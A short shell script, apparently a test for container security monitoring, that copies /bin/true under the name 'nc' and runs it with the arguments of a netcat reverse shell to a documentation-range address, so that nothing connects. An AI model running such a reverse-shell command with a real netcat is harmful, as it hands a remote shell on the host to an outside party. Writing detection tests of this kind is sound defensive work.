#!/bin/sh
# Runs with SCRATCH set to an empty directory below /tmp. See README.md.
set -e
. "$SCRATCH/container.sh"   # from here on in a cgroup as Docker makes them
cp /bin/true "$SCRATCH/nc"
"$SCRATCH/nc" -e /bin/sh 203.0.113.5 4444
